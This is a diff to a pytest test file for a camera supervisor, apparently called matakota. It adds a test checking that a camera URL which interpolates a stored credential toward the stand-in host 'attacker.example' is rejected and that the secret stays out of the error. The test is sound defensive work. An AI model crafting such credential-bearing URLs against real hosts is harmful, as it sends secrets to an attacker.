@@ -13,7 +13,7 @@ from matakota.config import parse_config
 from matakota.core.errors import CameraError
 from matakota.core.messages import CameraState, CameraStatus
 from matakota.core.names import NAMESPACE, SUPERVISOR_NAME
-from tests.conftest import ADMIN, READ
+from tests.conftest import ADMIN, CREDENTIALS_DIR, READ
 from tests.waiting import wait_for
 
 pytestmark = pytest.mark.timeout(300)
@@ -106,6 +106,11 @@ def test_a_district_is_added_in_one_call_all_or_none(supervisor):
     before = set(rows(supervisor))
     with pytest.raises(CameraError, match=r"cameras\[3\]\.analytics"):
         ray.get(supervisor.add_cameras.remote([*district[:3], {**district[3], "analytics": {"fps": -1}}]))
+    (CREDENTIALS_DIR / "candi").write_text("admin:s3cret-candi\n")
+    (CREDENTIALS_DIR / "candi.hosts").write_text("10.20.9.0/24\n")
+    with pytest.raises(CameraError, match=r"\$\{candi\} may not be sent to 'attacker.example'") as error:
+        ray.get(supervisor.add_cameras.remote([{**district[0], "url": "rtsp://${candi}@attacker.example/x"}]))
+    assert "s3cret" not in str(error.value)
     norm_zone = {"name": "z", "units": "norm", "polygon": [[0, 0], [1, 0], [1, 1]]}  # valid, but cannot start
     with pytest.raises(CameraError, match="frame size"):  # refused before it is saved, not failing on a shard
         ray.get(supervisor.add_cameras.remote([{**district[0], "analytics": {"zones": [norm_zone]}}]))
